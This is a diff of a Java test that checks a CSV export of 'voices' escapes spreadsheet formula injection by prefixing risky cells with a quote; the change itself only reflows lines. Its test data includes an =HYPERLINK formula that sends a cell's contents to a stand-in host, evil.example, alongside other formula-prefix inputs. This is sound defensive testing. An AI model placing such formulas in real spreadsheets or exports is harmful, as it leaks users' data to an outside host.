@@ -19,12 +19,14 @@ class VoiceCsvInjectionTest {
     void everyFormulaPrefixGetsALeadingQuote() {
         LocalDate day = LocalDate.of(2024, 2, 29); // a day no other test's voices use
         String[] texts = { "=HYPERLINK(\\\"http://evil.example/?x=\\\"&A1,\\\"click\\\")", "+1+1 足して", "-2+3 引いて",
-                "@SUM(A1) 合計", "\\tタブで始まる", "\\r復帰で始まる" };
+            "@SUM(A1) 合計", "\\tタブで始まる", "\\r復帰で始まる" };
         for (String text : texts) {
             Voices.create("admin", Voices.body(Voices.CHUO, text, day));
         }
-        String csv = new String(as("admin").get("/api/v1/voices/export.csv?from=" + day + "&to=" + day).then().statusCode(200)
-                .extract().asByteArray(), StandardCharsets.UTF_8);
+        String csv = new String(
+                as("admin").get("/api/v1/voices/export.csv?from=" + day + "&to=" + day).then().statusCode(200)
+                        .extract().asByteArray(),
+                StandardCharsets.UTF_8);
         assertTrue(csv.contains("\"'=HYPERLINK(\"\"http://evil.example/?x=\"\"&A1,\"\"click\"\")\""), csv);
         for (String start : new String[] { "'+1+1", "'-2+3", "'@SUM", "'\tタブ", "'\r復帰" }) {
             assertTrue(csv.contains(",\"" + start), start + " in " + csv);
